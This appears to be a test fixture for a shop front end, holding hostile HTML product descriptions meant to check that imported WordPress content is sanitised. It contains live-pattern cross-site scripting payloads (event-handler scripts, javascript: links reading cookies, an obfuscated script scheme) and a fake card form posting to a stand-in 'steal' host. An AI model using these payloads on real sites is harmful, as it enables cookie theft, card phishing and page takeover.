/**
 * What a merchant's import can leave behind: WordPress lets an administrator save any HTML, so a description is
 * hostile until it was made safe. This product shows that the shop's pages and the room do so.
 */
export const HOSTILE_SHORT_DESCRIPTION_HTML =
  '<p>Oiled beech and stiff bristles, for a back that has earned it.<img src="x" onerror="document.title=\'broken in\'"></p>'

export const HOSTILE_DESCRIPTION_HTML = `<style>body { display: none !important } .price { color: red }</style>
<p onclick="alert('clicked')" style="position:fixed;inset:0;background:#fff;z-index:9999">Made by one brush maker in Sibiu, who signs each handle.</p>
<script>document.body.innerHTML = 'taken over'; fetch('/cart', { method: 'POST' })</script>
<img src="missing.png" onerror="window.tandemAccident = true" alt="">
<svg onload="window.tandemAccident = true"><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>
<p>More about <a href="javascript:alert(document.cookie)">our brushes</a>, <a href=" jAvA&#x09;script:alert(1)">bristles</a> and <a href="https://example.com/beech" target="_top">beech</a>.</p>
<iframe src="https://example.com/tracker" width="1" height="1"></iframe>
<form action="https://example.com/steal"><input name="card" placeholder="Card number"><button>Pay here</button></form>
<ul><li><strong>42 cm</strong>, oiled beech</li><li>Rinse, shake, hang up</li></ul>
<base href="https://example.com/"><meta http-equiv="refresh" content="0;url=https://example.com/"><link rel="stylesheet" href="https://example.com/x.css">
<p>An unclosed <b>thought <i>at the end<!-- --><script>/*`
